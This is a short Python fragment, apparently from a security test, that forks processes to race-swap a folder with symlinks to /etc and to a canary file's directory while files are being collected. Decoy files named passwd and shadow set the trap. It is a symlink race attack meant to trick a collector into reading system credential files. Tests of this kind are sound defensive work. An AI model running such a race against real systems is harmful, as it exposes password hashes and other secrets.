# While the files are collected, a folder becomes a link and a folder again.
os.mkdir("/work/real")
for name in ("passwd", "secret.txt", "shadow", "group"):
    with open("/work/real/" + name, "w") as file:
        file.write("harmless")
target = os.path.dirname(os.environ["CANARY_FILE"])
for goal in (target, "/etc"):
    if os.fork() == 0:
        os.setsid()
        os.symlink(goal, f"/work/link{os.getpid()}")
        while True:
            try:
                os.rename("/work/real", "/work/aside")
                os.symlink(goal, "/work/real")
                os.unlink("/work/real")
                os.rename("/work/aside", "/work/real")
            except OSError:
                pass
time.sleep(0.2)
end()
